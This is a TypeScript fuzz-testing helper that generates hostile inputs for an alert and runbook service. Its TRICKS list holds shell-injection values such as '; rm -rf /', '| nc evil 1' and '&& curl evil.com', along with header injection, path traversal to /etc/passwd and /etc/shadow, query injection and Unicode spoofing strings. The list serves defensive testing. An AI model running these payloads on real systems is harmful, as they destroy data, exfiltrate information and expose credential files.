import fc from 'fast-check';

/**
 * Shared generators for the property and fuzz tests. `FUZZ_RUNS` scales every
 * property: the default keeps `npm test` bounded (seconds); `npm run fuzz` raises it.
 */
export const RUNS_SCALE = Math.max(1, Number(process.env.FUZZ_SCALE ?? '1'));
export function runs(base: number): number {
  return Math.round(base * RUNS_SCALE);
}

/** Totals per suite, printed at the end of each file so the closing note can cite them. */
export const tried = new Map<string, number>();
export function count(name: string): void {
  tried.set(name, (tried.get(name) ?? 0) + 1);
}
export function report(): string {
  return [...tried].map(([k, v]) => `${k}: ${v}`).join(', ');
}

/** Values an attacker who can fire an alert would try: shell, path, URL, template and Unicode tricks. */
export const TRICKS = [
  '',
  ' ',
  '-rf',
  '--all',
  '-n=kube-system',
  '; rm -rf /',
  '$(id)',
  '`id`',
  '| nc evil 1',
  '&& curl evil.com',
  '\nHost: evil.com',
  '\r\nX-Injected: 1',
  '../../etc/passwd',
  '..',
  '.',
  '..%2f..%2f',
  '%2e%2e%2f',
  '%00',
  'a\u0000b',
  'evil.com',
  'http://evil',
  'https://evil.com/',
  '//evil.com',
  '@evil.com',
  'user:pw@evil.com',
  '?next=evil',
  '#x',
  '{service}',
  '{{service}}',
  '${env:HOME}',
  '${file:/etc/shadow}',
  '"} or vector(1) #',
  '"}[5m]) or up{x="',
  '\\"',
  '\u202egnp.exe',
  '\u200bzero-width',
  'ＫＵＢＥ',
  'ſtraße',
  'İstanbul',
  '🚨',
  '\ud800',
  'a'.repeat(300),
  'a'.repeat(5000),
  '__proto__',
  'constructor',
  'toString',
  'NaN',
  '-1',
  '007',
  '1e309',
];

/** A string an attacker might send: a known trick, arbitrary Unicode, or a mix of both. */
export const evilString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...TRICKS) },
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.stringMatching(/^[a-z0-9][a-z0-9.-]{0,20}$/) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...TRICKS), fc.string({ maxLength: 8 })).map(([a, b]) => a + b) },
);

/** Any JSON value, including the odd ones: deep nesting, huge numbers, __proto__ keys. */
export const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.jsonValue({ maxDepth: 4 }),
  fc.dictionary(fc.constantFrom('__proto__', 'constructor', 'alerts', 'labels', 'event', 'service', 'confidence'), fc.jsonValue({ maxDepth: 2 })),
);

/** A value of the wrong type, for a field that expects something else. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(fc.constant(null), fc.integer(), fc.double(), fc.boolean(), fc.array(fc.string(), { maxLength: 3 }), fc.object({ maxDepth: 1 }));

export const labels: fc.Arbitrary<Record<string, string>> = fc.dictionary(
  fc.oneof(fc.constantFrom('alertname', 'service', 'pod', 'namespace', 'severity', 'job', 'instance', '__proto__'), fc.string({ maxLength: 12 })),
  evilString,
  { maxKeys: 6 },
);

/** The values a runbook's placeholders read, often plausible so that runs do happen, often hostile. */
const maybeSafe = fc.oneof({ weight: 3, arbitrary: fc.stringMatching(/^[a-z0-9]([a-z0-9-]{0,10}[a-z0-9])?$/) }, { weight: 2, arbitrary: evilString });
export const targetLabels: fc.Arbitrary<Record<string, string>> = fc.record({ pod: maybeSafe, namespace: maybeSafe, summary: evilString, deployment: maybeSafe, replicas: fc.oneof(fc.constantFrom('1', '3', '10'), evilString) }, { requiredKeys: [] });
